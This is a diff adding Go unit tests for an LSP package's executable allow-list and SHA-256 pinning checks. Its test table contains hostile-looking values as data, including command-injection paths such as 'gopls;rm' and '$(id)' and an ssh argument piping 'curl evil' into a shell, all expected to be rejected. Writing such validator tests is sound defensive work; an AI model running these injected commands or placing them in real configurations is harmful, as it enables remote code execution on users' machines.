@@ -0,0 +1,75 @@
+package lsp
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestCheckExecutable(t *testing.T) {
+	tests := []struct {
+		path string
+		args []string
+		ok   bool
+	}{
+		{"/usr/bin/gopls", nil, true},
+		{"/usr/bin/gopls;rm", nil, false},
+		{"/usr/bin/$(id)", nil, false},
+		{"/bin/sh", []string{"-c", "gopls"}, false},
+		{"bash", nil, false},
+		{`C:\tools\PowerShell.exe`, nil, false},
+		{`C:\tools\start.cmd`, nil, false},
+		{"/usr/bin/env", []string{"-i", "A=1", "sh", "-c", "x"}, false},
+		{"/usr/bin/env", []string{"A=1", "gopls"}, true},
+		{"/usr/bin/ssh", []string{"-p", "22", "host", "--", "gopls", "serve"}, true},
+		{"/usr/bin/ssh", []string{"host", "--", "gopls; curl evil | sh"}, false},
+		{"/usr/bin/docker", []string{"run", "-i", "image", "sh -c $(x)"}, true},
+	}
+	for _, tt := range tests {
+		err := CheckExecutable(tt.path, tt.args, nil)
+		if tt.ok {
+			assert.NoError(t, err, tt.path)
+		} else {
+			assert.True(t, errors.Is(err, ErrExecutableNotAllowed), "%s %v: %v", tt.path, tt.args, err)
+		}
+	}
+}
+
+func TestCheckExecutablePinned(t *testing.T) {
+	dir := t.TempDir()
+	server := filepath.Join(dir, "server")
+	require.NoError(t, os.WriteFile(server, []byte("#!/bin/true\n"), 0o755))
+	link := filepath.Join(dir, "link")
+	require.NoError(t, os.Symlink(server, link))
+	other := filepath.Join(dir, "other")
+	require.NoError(t, os.WriteFile(other, []byte("other"), 0o755))
+	sum := sha256.Sum256([]byte("#!/bin/true\n"))
+	hash := hex.EncodeToString(sum[:])
+
+	assert.NoError(t, CheckExecutable(server, nil, []PinnedExecutable{{Path: server}}))
+	assert.NoError(t, CheckExecutable(link, nil, []PinnedExecutable{{Path: server, SHA256: strings.ToUpper(hash)}}))
+	assert.ErrorIs(t, CheckExecutable(other, nil, []PinnedExecutable{{Path: server}}), ErrExecutableNotAllowed)
+
+	err := CheckExecutable(server, nil, []PinnedExecutable{{Path: server, SHA256: strings.Repeat("0", 64)}})
+	assert.ErrorIs(t, err, ErrExecutableNotAllowed)
+	assert.Contains(t, err.Error(), hash)
+
+	// A pinned shell is allowed
+	shell := filepath.Join(dir, "sh")
+	require.NoError(t, os.WriteFile(shell, nil, 0o755))
+	assert.NoError(t, CheckExecutable(shell, []string{"-c", "x"}, []PinnedExecutable{{Path: shell}}))
+}
+
+func TestPinnedExecutableValidate(t *testing.T) {
+	assert.NoError(t, PinnedExecutable{Path: "/usr/bin/gopls"}.Validate())
+	assert.NoError(t, PinnedExecutable{Path: "/usr/bin/gopls", SHA256: strings.Repeat("ab", 32)}.Validate())
+	assert.Error(t, PinnedExecutable{Path: "gopls"}.Validate())
+	assert.Error(t, PinnedExecutable{Path: "/usr/bin/gopls", SHA256: "abc"}.Validate())
+}